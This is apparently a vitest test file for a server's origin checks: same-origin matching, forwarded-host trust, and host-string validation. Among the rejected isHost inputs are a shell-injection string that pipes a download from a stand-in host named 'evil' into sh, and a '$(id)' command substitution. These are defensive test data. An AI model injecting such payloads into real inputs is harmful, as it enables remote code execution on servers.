import { describe, expect, test } from 'vitest';
import { parseNetworks } from '../../server/http/address.ts';
import { browserHost, isHost, isSameOrigin } from '../../server/http/origin.ts';

describe('origins', () => {
  test.each([
    ['https://watch.example', 'watch.example', true],
    ['https://watch.example', 'watch.example:443', true],
    ['https://watch.example:8443', 'watch.example:8443', true],
    ['https://WATCH.example', 'watch.EXAMPLE', true],
    ['https://[::1]:8443', '[::1]:8443', true],
    ['http://localhost:5173', 'localhost:5173', true],
    ['http://127.0.0.1:8080', '127.0.0.1:8080', true],
    ['', 'watch.example', true],
    ['http://watch.example', 'watch.example', false],
    ['http://watch.example:8443', 'watch.example:8443', false],
    ['ftp://watch.example', 'watch.example', false],
    ['https://watch.example:8443', 'watch.example', false],
    ['https://evil.example', 'watch.example', false],
    ['https://watch.example.evil.example', 'watch.example', false],
    ['null', 'watch.example', false],
    ['https://watch.example', '', false],
    ['https://watch.example', 'x@watch.example', false],
  ])('isSameOrigin("%s", "%s") is %s', (origin, host, expected) => {
    expect(isSameOrigin(origin, host)).toBe(expected);
  });

  test.each([
    ['of an untrusted peer is the Host, whatever it forwards', '8.8.8.8', 'evil.example', 'inner:8443'],
    ['without a forwarded host is the Host', '127.0.0.1', '', 'inner:8443'],
    ['is what a trusted proxy forwards', '127.0.0.1', 'watch.example', 'watch.example'],
    ['is what the nearest proxy adds', '127.0.0.1', 'evil.example, watch.example', 'watch.example'],
  ])('the host in the address bar %s', (_, peer, forwardedHost, expected) => {
    const trusted = parseNetworks(['127.0.0.1']);
    expect(browserHost({ peer, host: 'inner:8443', forwardedHost }, trusted)).toBe(expected);
  });
});

test.each([
  ['watch.example', true],
  ['watch_1.example:8443', true],
  ['10.0.0.1:8443', true],
  ['[fe80::1]:8443', true],
  ["x';curl evil|sh;'", false],
  ['x"y', false],
  ['a b', false],
  ['a,b', false],
  ['$(id)', false],
  ['a/b', false],
  ['a@b', false],
  ['', false],
])('[S6] isHost("%s") is %s', (text, expected) => {
  expect(isHost(text)).toBe(expected);
});
